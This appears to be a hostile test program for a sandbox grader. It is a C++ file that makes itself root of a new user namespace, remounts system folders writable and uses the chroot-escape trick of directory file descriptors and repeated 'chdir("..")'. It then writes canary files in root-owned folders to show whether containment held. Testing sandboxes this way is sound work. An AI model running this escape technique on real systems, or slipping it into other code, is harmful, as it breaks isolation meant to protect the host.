// hostile: becomes root of a user name space of its own, mounts, and walks out of a chroot
// gets: 01-raw-get: checked, at most 0
// proof: no file http-by-hand-canary-namespaces anywhere, no mount of that name in the grader's /proc/self/mounts

#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <string>

void canary(const std::string& folder) { std::ofstream(folder + "/http-by-hand-canary-namespaces-file") << "root\n"; }

int main() {
    alarm(5);
    const uid_t user = getuid();
    unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWIPC);
    std::ofstream("/proc/self/uid_map") << "0 " << user << " 1\n";

    const char place[] = "/tmp/http-by-hand-canary-namespaces";
    mkdir(place, 0755);
    mount("http-by-hand-canary-namespaces", place, "tmpfs", 0, "size=1m");
    mount("none", place, nullptr, MS_SHARED, nullptr);
    for (const char* folder : {"/", "/usr", "/etc", "/bin"}) {
        mount("none", folder, nullptr, MS_REMOUNT | MS_BIND, nullptr);  // no longer read-only
    }
    const int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot(place) == 0 && fchdir(outside) == 0) {
        for (int i = 0; i < 50 && chdir("..") == 0; ++i) continue;
        if (chroot(".") == 0) canary("/");
    }
    for (const char* folder : {"/", "/usr", "/etc", "/tmp", "/var/tmp", "/root", "/opt/http-by-hand"}) canary(folder);
    return 1;
}
